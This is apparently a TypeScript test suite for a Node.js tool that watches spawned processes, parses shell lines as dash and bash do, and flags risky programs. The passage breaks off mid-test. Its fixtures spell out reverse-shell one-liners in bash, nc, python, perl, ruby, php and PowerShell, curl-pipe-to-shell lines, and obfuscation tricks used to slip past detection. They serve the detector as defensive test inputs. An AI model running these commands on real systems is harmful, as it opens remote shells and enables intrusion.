// What a spawn starts and whether it alerts: the call's arguments read as Node 20 reads them (checked against
// the children Node really starts), shell command lines read as dash and bash read them (checked against
// the programs they really run), the verdicts of each rule and their evasions, and hostile input.
import { t as root, test, type Test } from 'tap'
import * as cp from 'node:child_process'
import { chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { performance } from 'node:perf_hooks'
import { spawnCallOf, type CallableSpawnApi } from '../lib/watch/spawn-call'
import { SHELL_LIMITS, scanShell, simpleCommands } from '../lib/watch/shell-words'
import { PROCESS_RULES, judgeSpawn, parseAllowList, programsOf, type AllowEntry } from '../lib/watch/programs'
import type { ProcessRule, SpawnCall } from '../lib/watch/types'

const dir = mkdtempSync(join(tmpdir(), 'watch-programs-'))
// Prints its arguments, each ended by a NUL: what a synchronous spawn really ran, read from its output.
const ARGV = join(dir, 'argv.sh')
writeFileSync(ARGV, '#!/bin/sh\nfor a in "$@"; do printf \'%s\\0\' "$a"; done\n')
chmodSync(ARGV, 0o755)
const NOOP = join(dir, 'noop.js')
writeFileSync(NOOP, '')
const ECHO = '/bin/echo'
const LOG = join(dir, 'ran.log')
// Stand-ins for the programs the shell-line cases start: each logs its name, so a real shell says what it ran.
const STUBS = ['curl', 'wget', 'id', 'whoami', 'nc', 'git', 'ls', 'cat']
const BIN = join(dir, 'bin')
cp.execFileSync('mkdir', [BIN])
for (const name of STUBS) {
  writeFileSync(join(BIN, name), `#!/bin/sh\nprintf '%s\\n' ${name} >> "$WATCH_LOG"\n`)
  chmodSync(join(BIN, name), 0o755)
}
root.teardown(() => rmSync(dir, { recursive: true, force: true }))

const callback = (): void => {}
const spelt = { toString: () => 'spelt' }
const call = (api: CallableSpawnApi, ...args: unknown[]): SpawnCall => {
  const read = spawnCallOf(api, args)
  if (read === undefined) throw new Error(`spawnCallOf refused ${api} ${String(args[0])}`)
  return read
}

type Seen = { threw: string } | { file: string, args: string[] }

/** What Node does with the arguments: the error it throws, or the child's spawnfile and spawnargs (argv[0] aside). */
async function nodeStarts (api: 'spawn' | 'exec' | 'execFile' | 'fork', args: unknown[]): Promise<Seen> {
  let child: cp.ChildProcess
  try {
    child = (cp[api] as (...a: unknown[]) => cp.ChildProcess)(...args)
  } catch (err) {
    return { threw: String((err as NodeJS.ErrnoException).code ?? (err as Error).name) }
  }
  const done = new Promise((resolve) => {
    child.once('close', resolve)
    child.once('error', resolve) // a file that does not exist: no process, no close
  })
  const seen = { file: child.spawnfile, args: child.spawnargs.slice(1).map(String) }
  await done
  return seen
}

async function sameAsNode (t: Test, api: 'spawn' | 'exec' | 'execFile' | 'fork', cases: unknown[][]): Promise<void> {
  let refused = 0
  for (const args of cases) {
    const what = `${api}(${args.map((a) => typeof a === 'function' ? 'fn' : typeof a === 'symbol' ? 'symbol' : JSON.stringify(a) ?? String(a)).join(', ')})`
    const ours = spawnCallOf(api, args)
    const node = await nodeStarts(api, args)
    if ('threw' in node) {
      refused++
      t.equal(ours, undefined, `${what}: Node throws ${node.threw}, so no call`)
    } else t.same(ours === undefined ? undefined : { file: ours.file, args: ours.args }, node, `${what}: ${node.file} ${node.args.join(' ')}`)
  }
  t.ok(refused > 0 && refused < cases.length, `${api}: ${refused} of ${cases.length} argument shapes refused by Node`)
}

test('spawn: file, arguments and options read as Node reads them', (t) => sameAsNode(t, 'spawn', [
  [ECHO], [ECHO, ['a', 'b c']], [ECHO, ['a', 1, true, null, undefined, spelt, Buffer.from('buf')]],
  [ECHO, { shell: true }], [ECHO, ['a b', 'c;d'], { shell: true }], [ECHO, [null, 'x', undefined], { shell: true }],
  [ECHO, ['x'], { shell: '/bin/bash' }], [ECHO, ['x'], { shell: '' }], [ECHO, ['x'], { shell: false }], [ECHO, null, { shell: true }],
  [ECHO, undefined, { shell: true }], [ECHO, { shell: true }, { shell: false }], [ECHO, ['x'], { argv0: 'git' }],
  [ECHO, ['x'], JSON.parse('{"__proto__": {"shell": true}}')], [ECHO, ['x'], Object.create({ shell: true })],
  [ECHO, 'x'], [ECHO, 5], [ECHO, callback], [ECHO, ['x'], null], [ECHO, ['x'], ['y']], [ECHO, ['x'], 'options'], [ECHO, ['x'], { shell: 1 }],
  [ECHO, ['x'], { argv0: 5 }], [ECHO, ['a\0b']], ['', []], [5, []], [ECHO, ['x'], { shell: '/bin/sh\0' }], [ECHO, [Symbol('s')]]
]))

test('exec: the command run by /bin/sh or options.shell', (t) => sameAsNode(t, 'exec', [
  ['echo a'], ['echo a', callback], ['echo a', { shell: '/bin/bash' }, callback], ['echo a', { shell: true }], ['echo a', 'xy'],
  ['echo a', ['z']], ['echo a', null, callback], ['echo a', undefined, callback], ['echo a', { shell: 7 }], ['echo a', { argv0: 'x' }],
  ['echo a', { shell: '' }], // an empty shell is none: the command is the file
  [5], ['echo \0'], ['echo a', {}, 'not a function'], [''], ['echo a', { argv0: 5 }]
]))

test('execFile: optional arguments, options and callback shuffled as Node does', (t) => sameAsNode(t, 'execFile', [
  [ECHO], [ECHO, ['a']], [ECHO, ['a'], callback], [ECHO, callback], [ECHO, { shell: true }, callback], [ECHO, ['a b'], { shell: true }],
  [ECHO, null, { shell: '/bin/bash' }], [ECHO, ['a'], { argv0: 'x' }], [ECHO, ['a'], callback, 'ignored'], [ECHO, ['a'], null, callback],
  [ECHO, 'a'], [ECHO, ['a'], 'options'], [ECHO, ['a'], {}, 5], [ECHO, ['a'], { shell: 5 }], [5], [ECHO, ['a'], { argv0: 5 }]
]))

test('fork: execPath runs execArgv, the module and its arguments', (t) => sameAsNode(t, 'fork', [
  [NOOP], [NOOP, ['a'], { execArgv: [] }], [NOOP, { execArgv: ['--no-warnings'] }], [NOOP, null, { execArgv: [] }],
  [NOOP, ['a', 1], { execPath: ECHO, execArgv: ['--x'], silent: true }], [NOOP, [], { execPath: ECHO, execArgv: 'ab', silent: true }],
  [Buffer.from(NOOP), [], { execArgv: [] }], [pathToFileURL(NOOP), ['u'], { execArgv: [] }], [NOOP, ['x'], { execPath: '', execArgv: [] }],
  [NOOP, [], { execPath: ECHO, execArgv: [], argv0: 'node', silent: true }],
  [5], [NOOP, 'a'], [NOOP, [], 'options'], ['a\0b'], [NOOP, [], { stdio: ['pipe', 'pipe', 'pipe'] }], [NOOP, [], { execArgv: ['\0'] }], [NOOP, [], { execPath: 5 }],
  [new URL('http://example.com/x.js')], [NOOP, [], { execArgv: 5 }]
]))

test('fork from `node -e`: the -e script is not passed on, as Node drops it', async (t) => {
  // The child runs this file's TypeScript through the loaders this process was given.
  const script = `const cp = require('node:child_process'); const { spawnCallOf } = require(${JSON.stringify(join(__dirname, '../lib/watch/spawn-call.ts'))});
    const args = [${JSON.stringify(NOOP)}, { silent: true }]; const child = cp.fork(...args);
    console.log(JSON.stringify({ node: child.spawnargs.slice(1), ours: spawnCallOf('fork', args).args })); child.on('exit', () => {})`
  const out = cp.execFileSync(process.execPath, [...process.execArgv, '-e', script], { encoding: 'utf8' })
  const { node, ours } = JSON.parse(out.trim().split('\n').pop() as string) as { node: string[], ours: string[] }
  t.same(ours, node, `both: ${node.join(' ')}`)
  t.notOk(node.includes('-e'), 'without -e')
})

test('the synchronous variants: what the child really received', async (t) => {
  const received = (output: Buffer): string[] => output.toString().split('\0').slice(0, -1)
  const cases: Array<[CallableSpawnApi, unknown[], (out: string[], ours: SpawnCall) => unknown]> = [
    ['spawnSync', [ARGV, ['a', 1, null]], (out, ours) => t.same(out, ours.args)],
    ['spawnSync', ['any thing', ['x', null], { shell: ARGV }], (out, ours) => t.same(out, ['-c', 'any thing x ']) && t.same(ours.args, out)],
    ['spawnSync', [ARGV, { shell: ARGV, argv0: 'y' }], (out, ours) => t.same(out, ours.args)],
    ['execSync', ['a b; c', { shell: ARGV }], (out, ours) => t.same(out, ['-c', 'a b; c']) && t.same(ours.args, out)],
    ['execSync', ['printf \'%s\\0\' "$0"', { shell: 5 }], (out, ours) => t.same(out, [ours.file]) && t.equal(ours.file, '/bin/sh')],
    ['execSync', ['printf \'%s\\0\' "$0"', callback], (out, ours) => t.same(out, [ours.file])],
    ['execFileSync', [ARGV, ['a', spelt]], (out, ours) => t.same(out, ours.args)],
    ['execFileSync', [ARGV, { shell: ARGV }], (out, ours) => t.same(out, ['-c', ARGV]) && t.same(ours.args, out)],
    ['execFileSync', [ARGV, null, { argv0: 'x' }], (out, ours) => t.same(out, ours.args)]
  ]
  for (const [api, args, check] of cases) {
    const ours = call(api, ...args)
    const result = (cp[api] as (...a: unknown[]) => Buffer | { stdout: Buffer })(...args)
    check(received(Buffer.isBuffer(result) ? result : result.stdout), ours)
  }
  for (const [api, args] of [['spawnSync', [ARGV, 'x']], ['execSync', [5]], ['execFileSync', [ARGV, ['a'], callback]], ['spawnSync', [ARGV, [], null]]] as const) {
    t.throws(() => (cp[api] as (...a: unknown[]) => unknown)(...args), { code: /^ERR_INVALID_ARG/ }, `Node refuses ${api}(${String(args[1])})`)
    t.equal(spawnCallOf(api, args), undefined, `so does spawnCallOf(${api})`)
  }
})

test('hostile options and arguments: each read once, never a throw', async (t) => {
  let reads = 0
  const flipping = { get shell () { return reads++ > 0 } }
  const read = call('spawn', ECHO, ['x'], flipping)
  t.equal(reads, 1, 'the getter is called once')
  t.same([read.file, read.shell], [ECHO, undefined], 'its first answer is the one judged')
  const throwing = { get shell (): boolean { throw new Error('getter') } }
  const revoked = Proxy.revocable({}, {})
  revoked.revoke()
  const hostile: Array<[CallableSpawnApi, unknown[]]> = [
    ['spawn', [ECHO, ['x'], throwing]], ['spawnSync', [ECHO, ['x'], revoked.proxy]], ['exec', ['x', throwing]],
    ['execFile', [ECHO, [{ toString () { throw new Error('toString') } }]]], ['fork', [NOOP, [], { get execArgv () { throw new Error('x') } }]],
    ['spawn', [ECHO, revoked.proxy]], ['execFileSync', [ECHO, ['x'], { argv0: Symbol('x') }]]
  ]
  for (const [api, args] of hostile) {
    t.equal(spawnCallOf(api, args), undefined, `${api}: refused without throwing`)
    t.throws(() => (cp[api] as (...a: unknown[]) => unknown)(...args), `${api}: Node throws on it too`)
  }
  const polluted = JSON.parse('{"__proto__": {"shell": "/bin/bash", "execPath": "/tmp/x"}, "constructor": {"prototype": {"shell": true}}}')
  t.same(call('spawn', ECHO, ['x'], polluted), { api: 'spawn', file: ECHO, args: ['x'], shell: undefined, command: `${ECHO} x` }, 'a __proto__ key gives no option')
  t.equal(call('fork', NOOP, polluted).file, process.execPath)
  t.equal(({} as { shell?: unknown }).shell, undefined, 'and pollutes nothing')
  t.same(call('exec', 'id', { shell: '/bin/bash', argv0: 'git' }), { api: 'exec', file: '/bin/bash', args: ['-c', 'id'], shell: '/bin/bash', command: 'id' }, 'argv0 does not rename what runs')
})

test('shell lines: commands and words', async (t) => {
  const cases: Array<[string, string[][]]> = [
    ['ls -la /tmp', [['ls', '-la', '/tmp']]],
    [';curl x|sh', [['curl', 'x'], ['sh']]],
    ['a;\nb\n\nc &d && e || f', [['a'], ['b'], ['c'], ['d'], ['e'], ['f']]],
    ['echo $(wget http://e/x)', [['wget', 'http://e/x'], ['echo', '$()']]],
    ['A=1 B="x y" C[1]=z D+=w curl x >out 2>&1 <in >>log &>all', [['curl', 'x']]],
    ['"A=1" x; A\\=1 y', [['A=1', 'x'], ['A=1', 'y']]],
    ['echo "$(id)" `whoami`', [['id'], ['whoami'], ['echo', '$()', '$()']]],
    ['echo \'a;b\' "c;d" e\\;f "a\\"b\\$c\\x"', [['echo', 'a;b', 'c;d', 'e;f', 'a"b$c\\x']]],
    ['cu\'\'rl x; c"u"r\\l y', [['curl', 'x'], ['curl', 'y']]],
    ['cat <<EOF\nhello $(curl x)\nEOF\nls', [['cat'], ['curl', 'x'], ['ls']]],
    ['cat <<\'EOF\'\n$(curl x)\nEOF\nid', [['cat'], ['id']]],
    ['cat <<-EOF\n\t$(wget x)\n\tEOF\nid', [['cat'], ['wget', 'x'], ['id']]],
    ['for f in a b; do convert $f; done', [['convert', '$f']]],
    ['for x do curl; done', [['curl']]],
    ['case $x in a) curl y;; (b|c) wget z;; esac; id', [['curl', 'y'], ['wget', 'z'], ['id']]],
    ['echo $(case x in x) curl;; esac) $(time -p case y in y) wget;; esac)', [['curl'], ['wget'], ['echo', '$()', '$()']]],
    // a function's name reads as a command: a line that defines one alerts unless the name is allowed
    ['f() { curl x; }; function g { wget y; }; f', [['f'], ['curl', 'x'], ['wget', 'y'], ['f']]],
    ['if true; then id; elif ! false; then :; fi', [['true'], ['id'], ['false'], [':']]],
    ['$\'\\x63url\' $\'\\143url\' $\'cu\\0rl\' $\'\\u0063\\cA\\n\'', [['curl', 'curl', 'cu', 'c\x01\n']]],
    ['echo `echo \\`curl x\\``', [['curl', 'x'], ['echo', '$()'], ['echo', '$()']]],
    ['echo `echo \\$(wget x)`', [['wget', 'x'], ['echo', '$()'], ['echo', '$()']]],
    ['x=$((1 + (2*3))) id; echo $(( $(whoami) + 1 ))', [['id'], ['whoami'], ['echo', '$()']]],
    ['cat <(curl x) >(wget y)', [['curl', 'x'], ['wget', 'y'], ['cat', '$()', '$()']]],
    ['a \\\nb # comment ; curl\nc#d', [['a', 'b'], ['c#d']]],
    ['(cd /tmp && make) | { tee x; }', [['cd', '/tmp'], ['make'], ['tee', 'x']]],
    ['echo ${x:-$(curl y)} $"z"', [['curl', 'y'], ['echo', '${x:-$()}', 'z']]],
    ['exec 3<>/dev/tcp/1.2.3.4/80 <<< "$(id)"', [['id'], ['exec']]]
  ]
  for (const [line, expected] of cases) t.same(simpleCommands(line), expected, JSON.stringify(line))
  t.same(scanShell('bash -i >& /dev/tcp/10.0.0.1/4242 0>&1 2> "/tmp/e r"').redirections, ['/dev/tcp/10.0.0.1/4242', '1', '/tmp/e r'], 'redirection targets')
  t.equal(scanShell('$((curl x) )').complete, false, '`$((` that is not arithmetic cannot be read as the shell reads it')
})

test('shell lines: every program dash and bash really run is listed', async (t) => {
  const lines = [
    'ls x;curl y|wget z', 'echo $(wget http://e/x)', 'a=1 B=2 curl x >/dev/null 2>&1 </dev/null', 'echo "$(id -u)" `whoami`',
    'cat <<EOF\nhello $(curl x)\nEOF\nls', 'cat <<\'EOF\'\n$(curl x)\nEOF\nid', 'case x in x) curl y;; *) wget z;; esac',
    'f() { curl x; }; f', 'if true; then id; fi', 'echo `echo \\`curl x\\``', 'echo `echo \\$(wget x)`', '(cd /tmp && git status)',
    'echo ${x:-$(curl y)}', '! curl x && wget y || nc z', 'x=$((1+2)) id', 'echo $(( $(id -u) + 1 ))', 'exec curl x', 'command curl x',
    'command -v curl', 'eval "cu""rl x"', 'sh -c \'wget x; "c"url y\'', 'timeout 5 curl x', 'nice -n 5 wget y', 'env A=1 curl x',
    'echo a | xargs -n 1 curl', 'trap \'curl x\' EXIT', 'nohup wget y', 'stdbuf -o0 curl x', 'setsid -w id', 'cu\'\'rl x; c"u"r\\l y',
    'for x in 1; do id; done', 'while ! true; do curl; done; whoami', 'echo $(cat <<EOF)\ncurl x\nEOF', 'echo `cat <<EOF`\ncurl x\nEOF',
    'cat <<EOF; echo $(\ncurl x\n)\nEOF\nid', 'echo $( case x in x) curl ;; esac )', 'case x in x) case y in y) curl;; esac;; esac; wget',
    'echo "$(echo "$(curl)")"', 'echo `echo \\\\\`curl\\\\\``', 'echo ${x#)} $(curl)', 'echo $(echo \\) ; curl)', 'echo \\\\$(curl)'
  ]
  const bashOnly = ['$\'\\x63url\' x', 'cat <(curl x) >(wget y)', 'time curl x', 'eval $\'w\\x67et\' y', 'echo $(time case x in x) curl;; esac)', 'A[1]=x curl']
  let runs = 0
  const ran = (shell: string, line: string): string[] => {
    // A log per run: bash does not wait for a process substitution, which may log after its line is done.
    const log = `${LOG}.${runs++}`
    writeFileSync(log, '')
    cp.spawnSync(shell, ['-c', line], { env: { PATH: `${BIN}:/usr/bin:/bin`, WATCH_LOG: log }, cwd: dir, timeout: 10_000, stdio: 'ignore' })
    return [...new Set(readFileSync(log, 'utf8').split('\n').filter(Boolean))].sort()
  }
  for (const [shell, list] of [['dash', lines], ['bash', [...lines, ...bashOnly]]] as const) {
    for (const line of list) {
      const listed = new Set(programsOf(call('exec', line, { shell })).map((p) => p.name))
      const real = ran(shell, line)
      t.ok(real.every((name) => listed.has(name)), `${shell} -c ${JSON.stringify(line)}: ran ${real.join(', ') || 'none'}, listed ${[...listed].join(', ')}`)
    }
  }
})

test('wrappers and shells started directly: every program they really run is listed', async (t) => {
  const calls: Array<[string, string[]]> = [
    ['dash', ['-c', '--', 'curl']], ['bash', ['-e', '-c', 'curl']], ['bash', ['-c', '-e', 'curl']], ['dash', ['-o', 'errexit', '-c', 'curl']],
    ['bash', ['--norc', '-xc', 'curl', 'arg0']], ['env', ['-u', 'X', 'A=1', 'curl']], ['env', ['-uX', '--', 'curl']], ['env', ['-C', '/', 'curl']],
    ['env', ['-S', 'curl x']], ['env', ['--split-string', 'wget x']], ['nice', ['-n', '1', 'curl']], ['nice', ['-1', 'curl']], ['timeout', ['-k', '1', '5', 'curl']],
    ['timeout', ['--signal', 'KILL', '5', 'nice', 'curl']], ['xargs', ['-I', 'X', 'curl', 'X']], ['xargs', ['-n1', 'curl']], ['stdbuf', ['-o', 'L', 'curl']],
    ['stdbuf', ['-oL', 'wget']], ['setsid', ['-w', 'curl']], ['nohup', ['--', 'curl']]
  ]
  for (const [file, args] of calls) {
    const log = `${LOG}.direct`
    writeFileSync(log, '')
    cp.spawnSync(file, args, { env: { PATH: `${BIN}:/usr/bin:/bin`, WATCH_LOG: log }, cwd: dir, input: 'a\n', timeout: 10_000, stdio: ['pipe', 'ignore', 'ignore'] })
    const real = [...new Set(readFileSync(log, 'utf8').split('\n').filter(Boolean))]
    const listed = programsOf(call('spawn', file, args)).map((p) => p.name)
    t.ok(real.length > 0 && real.every((name) => listed.includes(name)), `${file} ${args.join(' ')}: ran ${real.join(', ')}, listed ${listed.join(', ')}`)
  }
})

test('shell lines: bounded reading', async (t) => {
  const many = scanShell('a;'.repeat(SHELL_LIMITS.commands + 1))
  t.same([many.commands.length, many.complete], [SHELL_LIMITS.commands, false], `${SHELL_LIMITS.commands} commands at most, then incomplete`)
  t.equal(scanShell('a;'.repeat(SHELL_LIMITS.commands)).complete, true)
  const wide = scanShell('x' + ' a'.repeat(SHELL_LIMITS.words + 5))
  t.same([wide.commands[0].length, wide.complete], [SHELL_LIMITS.words, false], `${SHELL_LIMITS.words} words a command`)
  const long = scanShell('x'.repeat(5000) + ' y')
  t.same([long.commands[0][0].length, long.commands[0][1], long.complete], [SHELL_LIMITS.wordLength, 'y', false], 'words cut at 4 KiB')
  const redirected = scanShell('x' + ' >a'.repeat(SHELL_LIMITS.redirections + 1))
  t.same([redirected.redirections.length, redirected.complete], [SHELL_LIMITS.redirections, false], `${SHELL_LIMITS.redirections} redirections`)
  const deep = scanShell('$('.repeat(40) + 'curl' + ')'.repeat(40))
  t.equal(deep.complete, false, 'substitutions nested deeper than the bound')
  t.same(judgeSpawn(call('exec', 'git x;'.repeat(64) + 'git x;' + 'wget y'), parseAllowList(['git'], 'allow')),
    { allowed: false, rule: 'unlisted', program: '/bin/sh', reason: '/bin/sh is given a command line too long or too nested to be read whole' },
    'a command hidden past the bound alerts')
})

const ALLOW = parseAllowList(['git', 'nc', 'python3', 'bash', { program: '/usr/bin/convert', args: '-resize \\d+x\\d+ \\S+ \\S+' }, { program: 'tar', args: /^-czf / }], 'allow')
const verdict = (api: CallableSpawnApi, ...args: unknown[]) => judgeSpawn(call(api, ...args), ALLOW)
const ruled = (t: Test, rule: ProcessRule | undefined, program: string, calls: Array<[CallableSpawnApi, ...unknown[]]>): void => {
  for (const [api, ...args] of calls) {
    const v = verdict(api, ...args)
    t.same([v.allowed, v.rule, v.program], [rule === undefined, rule, program], `${api} ${JSON.stringify(args).slice(0, 100)}: ${v.reason}`)
  }
}

test('verdicts: allowed and unlisted', async (t) => {
  ruled(t, undefined, 'git', [['exec', 'git status'], ['exec', 'cd /repo && git pull && echo done'], ['execFile', 'git', ['log']], ['spawn', 'git', { shell: true }]])
  ruled(t, undefined, '/usr/bin/git', [['spawn', '/usr/bin/git', ['log']], ['execFileSync', '/usr/bin/git', { argv0: 'x' }]])
  ruled(t, undefined, '/usr/bin/convert', [['execFile', '/usr/bin/convert', ['-resize', '10x10', 'a.png', 'b.png']]])
  ruled(t, undefined, 'tar', [['exec', 'tar -czf out.tgz dir']])
  // A line of builtins starts nothing but the shell: the shell is judged.
  ruled(t, 'shell', '/bin/sh', [['exec', 'command -v git'], ['exec', 'cd /tmp; true'], ['execSync', "echo '<?php' > /var/www/x.php"]])
  t.same(judgeSpawn(call('exec', 'cd /tmp; true'), parseAllowList(['sh'], 'allow')).allowed, true, 'allowed when sh is')
  ruled(t, 'unlisted', '/usr/bin/convert', [['execFile', '/usr/bin/convert', ['-resize', '10x10', 'a.png', 'b.png', '-write', 'x']]])
  ruled(t, 'unlisted', 'convert', [['exec', 'convert -resize 1x1 a b']]) // a path entry allows that path only
  ruled(t, 'unlisted', 'tar', [['exec', 'tar -xf x.tar']])
  ruled(t, 'unlisted', 'make', [['exec', 'git pull && make']])
  ruled(t, 'unlisted', 'Git', [['spawn', 'Git', []]]) // Linux names are case-sensitive: Git is not git
  ruled(t, 'unlisted', process.execPath, [['fork', NOOP]])
  const allowed = verdict('exec', 'git status')
  t.same(allowed, { allowed: true, rule: undefined, program: 'git', reason: 'on the allow list' })
})

test('verdicts: each always-alert table, with its reason', async (t) => {
  t.same(verdict('exec', 'curl http://e/x'), { allowed: false, rule: 'download', program: 'curl', reason: 'curl is a download tool and is not on the allow list' })
  ruled(t, 'shell', 'sh', [['spawn', 'sh', ['-c', 'git pull']], ['exec', 'sh deploy.sh'], ['spawn', 'busybox', ['sh', '-c', 'git log']]])
  ruled(t, 'shell', 'zsh', [['execFile', 'zsh', ['-lc', 'git pull']]])
  ruled(t, 'shell', 'cmd.exe', [['spawn', 'cmd.exe', ['/d', '/s', '/c', '"git status"']]])
  ruled(t, 'download', 'wget', [['exec', 'wget -qO- http://e/x'], ['spawn', 'bash', ['-c', 'wget x']]])
  ruled(t, 'download', 'scp', [['exec', 'scp a b:']])
  ruled(t, 'network-tool', 'nmap', [['exec', 'nmap -sS 10.0.0.0/8']])
  ruled(t, 'network-tool', 'socat', [['exec', 'socat - tcp:1.2.3.4:80']])
  ruled(t, 'interpreter', 'python3.11', [['exec', 'python3.11 -c "print(1)"']])
  ruled(t, 'interpreter', 'perl', [['exec', 'perl -e "print 1"']])
  ruled(t, 'interpreter', 'php8.2', [['exec', 'php8.2 -r "echo 1;"']])
  ruled(t, 'encoding', 'base64', [['exec', 'echo aWQ= | base64 -d']])
  ruled(t, 'recon', 'whoami', [['exec', 'whoami']])
  ruled(t, 'recon', 'uname', [['execFile', 'uname', ['-a']]])
  ruled(t, 'download', 'curl', [['exec', 'id; curl x; whoami']]) // the most severe finding is reported
  t.same(Object.keys(PROCESS_RULES).sort(), ['download', 'encoding', 'interpreter', 'network-tool', 'recon', 'reverse-shell', 'shell', 'unlisted'])
})

test('verdicts: reverse shells, even for programs on the allow list', async (t) => {
  ruled(t, 'reverse-shell', 'bash', [['spawn', 'bash', ['-c', 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1']]])
  ruled(t, 'reverse-shell', '/bin/sh', [
    ['exec', 'bash -c \'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1\''], ['exec', '0<&196;exec 196<>/dev/"tcp"/10.0.0.1/4242; sh <&196 >&196'],
    ['exec', 'd=/dev; exec 3<>$d/tcp/1.2.3.4/80'], ['exec', 'exec 3<>${d}/udp/1.2.3.4/53'], ['exec', 'exec 3<>$\'\\x2fdev/tcp/1.2.3.4/80\''],
    ['exec', 'cat < /dev/tc$()p/1.2.3.4/80']
  ])
  ruled(t, 'reverse-shell', 'nc', [['exec', 'nc -e /bin/sh 10.0.0.1 4242'], ['exec', 'nc -lvnpe /bin/bash 4444'], ['spawn', 'nc', ['-c', 'sh', 'h', '1']]])
  ruled(t, 'reverse-shell', 'ncat', [['exec', 'ncat --sh-exec "sh" 1.2.3.4 80']])
  ruled(t, 'reverse-shell', 'sh', [['exec', 'git log | sh -i 2>&1 | nc 1.2.3.4 80']])
  ruled(t, 'reverse-shell', 'mkfifo', [['exec', 'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4242 > /tmp/f']])
  ruled(t, 'reverse-shell', 'mknod', [['exec', 'mknod /tmp/p p']])
  ruled(t, 'reverse-shell', 'socat', [['exec', 'socat tcp:1.2.3.4:80 EXEC:/bin/sh'], ['exec', 'socat tcp:1.2.3.4:80 system:sh']])
  ruled(t, 'reverse-shell', 'python3', [
    ['spawn', 'python3', ['-c', 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0);import pty;pty.spawn("sh")']],
    ['exec', 'python3 -c \'import pty; pty.spawn("/bin/bash")\'']
  ])
  ruled(t, 'reverse-shell', 'perl', [['exec', 'perl -MIO -e \'$p=fork;$c=new IO::Socket::INET(PeerAddr,"10.0.0.1:4242")\'']])
  ruled(t, 'reverse-shell', 'ruby', [['exec', 'ruby -rsocket -e \'f=TCPSocket.open("10.0.0.1",4242).to_i\'']])
  ruled(t, 'reverse-shell', 'php', [['exec', 'php -r \'$sock=fsockopen("10.0.0.1",4242);exec("sh <&3 >&3 2>&3");\'']])
  ruled(t, 'reverse-shell', 'powershell', [['spawn', 'powershell', ['-nop', '-c', '$c = New-Object System.Net.Sockets.TCPClient("10.0.0.1",4242)']]])
  ruled(t, 'interpreter', 'python', [['exec', 'python -c "print(empty)"']]) // `pty` inside a word is not the pty module
  ruled(t, 'unlisted', 'cat', [['exec', 'cat $HOME/tcp/notes']]) // a variable before /tcp/ counts in a redirection only
  ruled(t, undefined, 'nc', [['exec', 'nc -z db 5432']])
})

test('verdicts: evasions', async (t) => {
  ruled(t, 'download', '/usr/bin/curl', [['execFile', '/usr/bin/curl', ['x']]])
  ruled(t, 'download', '/tmp/curl.exe', [['spawn', '/tmp/curl.exe', []]])
  // Linux is case-sensitive, so CURL is not curl; on a case-insensitive file system it is: the tables compare lower case.
  ruled(t, 'download', 'CURL', [['spawn', 'CURL', ['x']]])
  ruled(t, 'download', 'curl', [
    ['exec', 'env curl x'], ['exec', 'env -i -u HOME A=1 curl x'], ['exec', 'nohup nice -n 5 timeout -s 9 5 curl x'], ['spawn', 'sudo', ['-u', 'www', 'curl', 'x']],
    ['exec', 'exec curl x'], ['exec', 'command curl x'], ['exec', 'xargs -I{} curl {}'], ['exec', 'stdbuf -o0 setsid time -p curl x'], ['exec', 'env -S "curl x"'],
    ['exec', 'eval "cu""rl" x'], ['exec', 'trap "curl x" EXIT'], ['exec', 'trap -- "curl x" EXIT'], ['exec', 'c\'\'url x'], ['exec', '$\'\\x63url\' x'], ['exec', 'git log --format=$(curl x)'],
    ['exec', 'git status;curl x|bash'], ['exec', 'git log `curl x`'], ['exec', 'git log "$(curl x)"'], ['exec', 'cat <<EOF\n$(curl x)\nEOF'],
    ['spawn', 'git log;curl x', { shell: '/bin/bash' }]
  ])
  ruled(t, 'shell', 'sh', [['exec', 'sh -c "curl http://e/x"'], ['exec', 'sh -ec \'git pull\'']])
  ruled(t, 'shell', 'dash', [['spawn', 'dash', ['-c', 'sh -c "curl x"']]])
  ruled(t, 'shell', 'powershell', [['spawn', 'powershell', ['-NoProfile', '-EncodedCommand', Buffer.from('curl http://e/x', 'utf16le').toString('base64')]]])
  t.same(programsOf(call('spawn', 'pwsh', ['-enc', Buffer.from('iwr http://e/x', 'utf16le').toString('base64')])).map((p) => p.path), ['pwsh', 'iwr'], '-EncodedCommand decoded')
  // argv0 only renames the child: what runs is judged.
  ruled(t, 'download', '/usr/bin/curl', [['spawn', '/usr/bin/curl', ['x'], { argv0: 'git' }], ['execFileSync', '/usr/bin/curl', ['x'], { argv0: 'git' }]])
  ruled(t, 'shell', '/bin/sh', [['spawn', '/bin/sh', ['-c', 'git log'], { argv0: 'git' }]])
  const shellTrue = judgeSpawn(call('spawn', 'git', ['status'], { shell: true }), ALLOW)
  t.same([shellTrue.allowed, shellTrue.program], [true, 'git'], 'the shell that shell: true starts is not judged, its line is')
})

test('programsOf: the programs of a call', async (t) => {
  const paths = (api: CallableSpawnApi, ...args: unknown[]): string[] => programsOf(call(api, ...args)).map((p) => p.path)
  t.same(programsOf(call('exec', 'env A=1 /usr/bin/curl -s x')), [{ name: 'env', path: 'env', args: ['A=1', '/usr/bin/curl', '-s', 'x'] }, { name: 'curl', path: '/usr/bin/curl', args: ['-s', 'x'] }])
  t.same(paths('spawn', 'sh', ['-c', 'git log; curl x']), ['sh', 'git', 'curl'])
  t.same(paths('spawn', 'bash', ['--norc', '-o', 'pipefail', '-c', 'id', 'arg0']), ['bash', 'id'])
  t.same(paths('spawn', 'bash', ['script.sh', '-c', 'id']), ['bash'], 'a script: its arguments are not a command line')
  t.same(paths('exec', 'echo x; cd /; printf y; trap - INT; exit 0'), ['/bin/sh'], 'builtins start nothing but the shell')
  t.same(paths('spawn', 'echo', ['x']), ['echo'], 'echo started directly is /bin/echo')
  t.same(paths('exec', 'command -v curl; timeout -k 5 10 wget x'), ['timeout', 'wget'])
  t.same(paths('spawn', 'env', ['-S', 'curl -s x', 'y']), ['env', 'curl'])
  t.same(paths('spawn', 'env', ['--split-string=wget x']), ['env', 'wget'])
  t.same(paths('spawn', 'env', ['--unset', 'HOME', '--', 'id']), ['env', 'id'])
